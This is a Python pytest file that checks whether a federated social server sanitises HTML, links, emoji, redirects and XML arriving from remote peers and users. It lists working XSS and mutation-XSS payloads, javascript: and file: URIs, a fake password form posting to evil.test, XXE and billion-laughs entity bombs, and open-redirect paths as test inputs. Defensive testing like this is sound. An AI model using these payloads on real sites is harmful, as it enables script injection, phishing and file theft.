"""HTML: markup, addresses and styles that others send, wherever they are shown."""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from attack_peers import Actor
from attack_people import newcomer, png, signed_in
from attack_world import BASE, World
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from fedserver.domain.text.clean import clean
from fedserver.media.provenance import xmp
from fedserver.media.provenance.parts import Broken

PAYLOAD = '"><img src=x onerror=alert(1)>'
TAGS = {
    "p",
    "br",
    "span",
    "a",
    "del",
    "s",
    "pre",
    "blockquote",
    "code",
    "b",
    "strong",
    "u",
    "i",
    "em",
    "ul",
    "ol",
    "li",
}
TAGS |= {"ruby", "rt", "rp", "h1", "h2", "h3", "h4", "h5", "h6", "sup", "sub", "hr"}
CLASSES = {"mention", "hashtag", "u-url", "h-card", "invisible", "ellipsis", "quote-inline"}

ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<p onclick=alert(1)>x</p>",
)
FORMS = (
    '<form action="https://evil.test"><input type=password name=p><button>Sign in</button></form>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select><option>x</select>",
)
MUTATING = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg><style><a title="</style><img src=x onerror=alert(1)>"></a></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<a href='x'><template><s><template><s><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<select><iframe></select><img src=x onerror=alert(1)>",
)
STYLES = (
    "<p style='position:fixed;inset:0;z-index:9'>over all</p>",
    '<p class="btn-admin modal flash">x</p>',
    "<style>*{display:none}</style><p>x</p>",
    '<a class="mention btn" href="https://good.test/" style="color:red">x</a>',
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://sut.test/x",
    "file:///etc/passwd",
    "//evil.test/x",
    "/settings/password",
    "view-source:javascript:alert(1)",
)


class Reread(HTMLParser):
    """What a reader of the HTML finds: tags, attributes, text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmless(html: str) -> None:
    """Nothing but listed tags, listed classes, and links to the web."""
    found = Reread(html)
    assert set(found.tags) <= TAGS, (found.tags, html)
    for tag, name, value in found.attributes:
        assert not name.startswith("on") and name not in ("style", "id", "srcdoc", "src", "action"), (name, html)
        if name == "class":
            assert set(value.split()) <= CLASSES, html
        if name == "href":
            assert tag == "a" and value.startswith(("http://", "https://")), (value, html)


def calm(page: str) -> None:
    """A whole page of ours: nothing of the payloads has become markup."""
    found = Reread(page)
    assert not {"script", "iframe", "object", "embed", "base", "svgx", "style"} & set(found.tags)
    assert not [name for _, name, _ in found.attributes if name.startswith("on") or name in ("srcdoc", "style")]
    for _, name, value in found.attributes:
        if name in ("href", "src", "action"):
            assert not re.match(r"\s*(javascript|vbscript|data|blob|file):", value, re.IGNORECASE), value
    assert ("img", "src", "x") not in found.attributes


async def arrived(world: World, author: Actor, **note: Any) -> str:
    """The id here of a new post from elsewhere, which names somebody here."""
    alice = f"{BASE}/users/alice"
    tags = [{"type": "Mention", "href": alice}, *note.pop("tag", [])]
    made = author.note(f"n{world.count('statuses')}", tag=tags, **note)
    made["cc"].append(alice)
    assert (await world.deliver(author, author.create(made))).status == 202
    await world.settled()
    rows = world.query("SELECT id FROM statuses WHERE uri = ?", made["id"])
    return str(rows[0][0]) if rows else ""


async def shown(world: World, contents: tuple[str, ...]) -> list[str]:
    """The contents as the API gives them; every page that shows them is looked at on the way."""
    reader, author = await newcomer(world), world.good.actor(f"html{id(contents)}")
    browser, made = await signed_in(reader), []
    for content in contents:
        number = await arrived(world, author, content=f"<p>before</p>{content}<p>after #html</p>", summary=content)
        assert number, content
        status = (await reader.get(f"/api/v1/statuses/{number}")).json
        made.append(status["content"])
        uri = world.query("SELECT uri FROM statuses WHERE id = ?", int(number))[0][0]
        calm((await browser.go(f"/authorize_interaction?uri={uri}")).text)
    calm((await world.get("/tags/html", headers={"Accept": "text/html"})).text)
    return made


async def test_HTML_01_active_elements_are_removed(world: World) -> None:
    for content in await shown(world, ACTIVE):
        harmless(content)
        assert "after" in content, content


async def test_HTML_02_forms_are_removed(world: World) -> None:
    for content in await shown(world, FORMS):
        harmless(content)


async def test_HTML_03_nothing_becomes_markup_when_it_is_read_again(world: World) -> None:
    for content in await shown(world, MUTATING):
        harmless(content)
        assert clean(content) == content


async def test_HTML_05_styles_and_classes_of_others_are_dropped(world: World) -> None:
    for content in await shown(world, STYLES):
        harmless(content)
        assert "after" in content, content


async def test_HTML_06_links_lead_to_the_web_or_nowhere(world: World) -> None:
    contents = tuple(f'<a href="{link}">click</a>' for link in LINKS)
    for content in await shown(world, contents):
        harmless(content)
        assert "evil.test" not in content and "settings" not in content
    kept = (await shown(world, ('<a href="https://good.test/a?b=1&amp;c=2">x</a>',)))[0]
    assert "https://good.test/a?b=1" in kept and "noopener" in kept


async def test_HTML_08_every_text_is_text_on_every_page(world: World) -> None:
    alice, owner = await newcomer(world), await signed_in(await newcomer(world, "owner"))
    fields = [{"name": PAYLOAD[:30], "value": PAYLOAD[:30]}]
    change = {"display_name": PAYLOAD, "note": PAYLOAD, "fields_attributes": fields}
    assert (await alice.send("PATCH", "/api/v1/accounts/update_credentials", json=change)).status == 200
    medium = (await alice.upload(png(), description=PAYLOAD)).json
    post = await alice.publish(PAYLOAD, spoiler_text=PAYLOAD, media_ids=[medium["id"]])
    harmless(post["content"])
    author = world.good.actor(
        "html08",
        name=PAYLOAD,
        summary=PAYLOAD,
        attachment=[{"type": "PropertyValue", "name": PAYLOAD, "value": PAYLOAD}],
    )
    number = await arrived(world, author, content=PAYLOAD, summary=PAYLOAD, name=PAYLOAD)
    given = {"account_id": str(alice.account_id), "comment": PAYLOAD, "status_ids": [post["id"]]}
    assert (await (await newcomer(world)).post("/api/v1/reports", json=given)).status == 200
    flag = author.activity("Flag", [alice.uri], content=PAYLOAD)
    assert (await world.deliver(author, flag)).status == 202
    app = {
        "client_name": PAYLOAD,
        "redirect_uris": "https://client.test/",
        "scopes": "read",
        "website": "https://x.test/",
    }
    client = (await world.send("POST", "/api/v1/apps", json=app)).json["client_id"]
    await world.settled()
    await owner.go("/admin/domains")
    reasons = {"domain": "bad.test", "severity": "limit", "public_comment": PAYLOAD, "private_comment": PAYLOAD}
    assert (await owner.submit("/admin/domains", reasons)).status == 303
    await owner.go("/admin/community")
    texts = {"title": PAYLOAD, "description": PAYLOAD, "terms": PAYLOAD, "rules": PAYLOAD, "registration": "open"}
    await owner.submit("/admin/community", texts)
    reports = [row[0] for row in world.query("SELECT id FROM reports")]
    assert len(reports) == 2 and number
    ask = f"/oauth/authorize?client_id={client}&redirect_uri=https%3A%2F%2Fclient.test%2F&response_type=code"
    pages = [f"/@{alice.name}", f"/@{alice.name}/{post['id']}", f"/@{alice.name}.rss", "/", "/about", "/join", "/admin"]
    pages += [
        "/admin/people",
        f"/admin/people/{alice.account_id}",
        "/admin/domains",
        "/admin/log",
        "/admin/community",
        ask,
    ]
    pages += [f"/admin/reports/{report}" for report in reports]
    pages += [f"/admin/people/{row[0]}" for row in world.query("SELECT id FROM accounts WHERE uri = ?", author.uri)]
    pages += ["/settings/profile", f"/authorize_interaction?uri={author.uri}", f"/tags/{'%22%3E%3Cimg'}"]
    for path in pages:
        answer = await owner.go(path)
        assert answer.status in (200, 303, 404), (path, answer.status)
        if path.endswith(".rss"):
            assert "<img src=x" not in answer.text
        else:
            calm(answer.text)
    account = (await alice.get(f"/api/v1/accounts/{alice.account_id}")).json
    harmless(account["note"])
    for field in account["fields"]:
        harmless(field["value"])


async def test_HTML_10_emoji_have_plain_names_and_web_addresses(world: World) -> None:
    author, reader = world.good.actor("html10"), await newcomer(world)
    codes = ('a" onmouseover=alert(1) x="', "<img>", "a b", "ok_1", "ok_2", "../x", "x" * 500)
    tag = [
        {"type": "Emoji", "name": f":{code}:", "icon": {"type": "Image", "url": "https://good.test/e.png"}}
        for code in codes[:4]
    ]
    tag.append({"type": "Emoji", "name": ":ok_2:", "icon": {"type": "Image", "url": "javascript:alert(1)"}})
    content = '<p>:ok_1: :ok_2: <a href="https://good.test/:ok_1:" title=":ok_1:">https://good.test/:ok_1:</a></p>'
    number = await arrived(world, author, content=content, tag=tag)
    status = (await reader.get(f"/api/v1/statuses/{number}")).json
    harmless(status["content"])
    assert "https://good.test/:ok_1:" in status["content"] and "e.png" not in status["content"]
    for emoji in status["emojis"]:
        assert re.fullmatch(r"[A-Za-z0-9_]{1,100}", emoji["shortcode"])
        assert emoji["url"].startswith(("http://", "https://"))


async def test_HTML_12_addresses_in_answers_are_of_the_web(world: World) -> None:
    reader = await newcomer(world)
    for number, bad in enumerate(
        ("javascript:alert(1)", "data:text/html,x", "\tjavascript:alert(1)", "vbscript:x", 5, {"a": 1})
    ):
        picture = {"type": "Image", "mediaType": "image/png", "url": bad}
        author = world.good.actor(f"html12x{number}", url=bad, icon=picture, image=picture)
        post = await arrived(world, author, url=bad, attachment=[picture], inReplyTo=bad)
        answer = await reader.get(f"/api/v1/statuses/{post}")
        assert answer.status == 200, bad
        for scheme in ("javascript:", "data:", "vbscript:"):
            assert scheme not in answer.text, bad
        status = answer.json
        assert status["url"] is None or status["url"].startswith("https://good.test/")
        assert status["account"]["url"].startswith("https://good.test/")
        for name in ("avatar", "header", "avatar_static", "header_static"):
            assert status["account"][name].startswith("https://sut.test/"), name
        for medium in status["media_attachments"]:
            assert str(medium["url"] or "https://").startswith("https://") and medium["remote_url"] in (None, "")


async def test_HTML_18_no_xml_is_expanded(world: World) -> None:
    """What peers send as XML is refused by its type. One part reads XML at all: what pictures say of their making, in
    the child process, and without document types."""
    reader = await newcomer(world)
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b SYSTEM "file:///etc/passwd">]><XRD>&a;</XRD>'
    )
    for kind in ("application/xrd+xml", "application/xml", "application/jrd+json", "application/activity+json"):
        world.evil.pages["https://evil.test/.well-known/webfinger?resource=acct:xml@evil.test"] = (kind, bomb)
        world.evil.pages["https://evil.test/.well-known/host-meta"] = (kind, bomb)
        answer = await reader.get("/api/v2/search?q=@xml@evil.test&resolve=true&type=accounts")
        assert answer.status == 200 and answer.json["accounts"] == [], kind
    root = Path(__file__).resolve().parents[2]
    files = (path for folder in ("fedserver", "protocol", "keys") for path in (root / folder).rglob("*.py"))
    imports = re.compile(r"^\s*(from|import) (xml|lxml|defusedxml|expat)\b", re.MULTILINE)
    readers = [path.relative_to(root).as_posix() for path in files if imports.search(path.read_text())]
    assert readers == ["fedserver/media/provenance/xmp.py"]
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    outside = "<!ENTITY l11 SYSTEM 'file:///etc/passwd'>"
    for declared in (f'<!ENTITY l0 "ha">{laughs}', outside, '<!ENTITY % l SYSTEM "https://evil.test/x.dtd">%l;'):
        rdf = f'<rdf:RDF xmlns:rdf="{xmp.RDF}" xmlns:dc="{xmp.DC}"><rdf:Description><dc:title>&l11;</dc:title>'
        packet = f"<!DOCTYPE x [{declared}]>{rdf}</rdf:Description></rdf:RDF>"
        with pytest.raises(Broken):
            xmp.read([packet.encode()])
        held = PngInfo()
        held.add_itxt("XML:com.adobe.xmp", packet)
        out = io.BytesIO()
        Image.new("RGB", (32, 32), "teal").save(out, "PNG", pnginfo=held)
        async with world.nothing_happens(tables=("statuses",)):
            answer = await reader.upload(out.getvalue())
            assert answer.status in (200, 202) and "root:" not in answer.text, answer.text


async def test_HTML_21_nothing_leads_off_this_site(world: World) -> None:
    user = await newcomer(world)
    browser = await signed_in(user)
    paths = (
        "/web/%2f%2fevil.test",
        "/redirect?url=https://evil.test",
        "/auth?next=//evil.test",
        "/%5cevil.test",
        "//evil.test/..",
    )
    paths += ("/@u@evil.test", "/login?next=//evil.test", "/login?next=https://evil.test", "/login?next=/%5Cevil.test")
    paths += (
        "/login?next=%2F%09%2Fevil.test",
        "/login?next=/.//evil.test",
        "/oauth/authorize?redirect_uri=https://evil.test/",
    )
    for path in paths:
        for asker in (browser.go(path), world.get(path, headers={"Accept": "text/html"})):
            answer = await asker
            where = answer.headers.get("Location", "/")
            assert re.match(r"/(?![/\\])", where) and "\\" not in where, (path, where)
            assert answer.status < 500
    for target in (
        "//evil.test",
        "https://evil.test",
        "/\\evil.test",
        "/\t/evil.test",
        "/.//evil.test",
        "javascript:alert(1)",
    ):
        fresh = await signed_in(await newcomer(world))
        await fresh.go("/login?force=1")
        answer = await fresh.submit(
            "/login", {"login": user.name, "password": "correct horse battery staple", "next": target}
        )
        assert answer.status == 303 and answer.headers["Location"] == "/", target
    # somebody elsewhere has no page here: browsers are sent to what their own server said, and only on the web
    author = world.good.actor("html21", url="javascript:alert(1)")
    await user.get(f"/api/v2/search?q={author.uri}&resolve=true")
    answer = await browser.go("/@html21@good.test")
    assert answer.headers.get("Location", "").startswith(("https://good.test/", "/")) or answer.status in (200, 404)
